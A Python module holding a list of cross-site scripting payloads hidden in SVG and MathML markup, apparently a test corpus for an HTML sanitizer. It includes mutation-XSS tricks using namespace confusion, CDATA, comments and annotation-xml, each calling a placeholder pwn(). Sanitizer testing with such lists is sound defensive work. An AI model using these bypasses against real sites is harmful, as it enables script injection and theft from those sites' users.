"""SVG and MathML, whose contents parsers read by other rules."""

from __future__ import annotations

from typing import Final

FOREIGN: Final = [
    "<svg><script>pwn()</script></svg>",
    "<svg><script>pwn&lpar;&rpar;</script></svg>",
    "<svg><script><![CDATA[pwn()]]></script></svg>",
    "<svg><style><img src=/n onerror=pwn()></style></svg>",
    "<svg><title><img src=/n onerror=pwn()></title></svg>",
    "<svg><desc><iframe srcdoc='<script>parent.pwn()</script>'></desc></svg>",
    "<svg><foreignObject><body onload=pwn()><img src=/n onerror=pwn()></foreignObject></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=pwn() /><rect width=9 height=9 /></svg>",
    "<svg><a><animate attributeName=href values=javascript:pwn() /><text y=9>x</text></a></svg>",
    "<svg><handler type='text/javascript'>pwn()</handler></svg>",
    "<svg xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load ev:handler=#s></svg>",
    "<svg></p><style><a id='</style><img src=/n onerror=pwn()>'></svg>",
    "<svg><p><style><!--</style><img src=/n onerror=pwn()>--></style>",
    "<svg><b><style><img src=/n onerror=pwn()></style></b></svg>",
    "<svg><![CDATA[><img src=/n onerror=pwn()>]]></svg>",
    "<svg><!--><img src=/n onerror=pwn()>--></svg>",
    "<svg><font color=x><img src=/n onerror=pwn()></font></svg>",
    "<svg><image href=/n onerror=pwn() /></svg>",
    "<svg><discard onbegin=pwn() /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=/n "
    "onerror=pwn()&gt;'>",
    "<math><mtext><mglyph><svg><mtext><textarea><a title='</textarea><img src=/n onerror=pwn()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=/n onerror=pwn()>",
    "<math><annotation-xml encoding='text/html'><img src=/n onerror=pwn()></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><style><img src=/n onerror=pwn()>",
    "<math><annotation-xml><svg><desc><img src=/n onerror=pwn()>",
    "<math><mi><style><img src=/n onerror=pwn()></style></mi></math>",
    "<math><ms><b><script>pwn()</script></b></ms></math>",
    "<math><semantics><annotation>&lt;img src=/n onerror=pwn()&gt;</annotation></semantics></math>",
    "<math alttext='\"><img src=/n onerror=pwn()>'><mi>x</mi></math>",
    "<math><mtext></p><img src=/n onerror=pwn()></mtext></math>",
    "<math><svg><math><style><img src=/n onerror=pwn()>",
    "<table><math><mo></table><img src=/n onerror=pwn()>",
    "<svg><table><svg><style><a title='</style><img src=/n onerror=pwn()>'>",
]
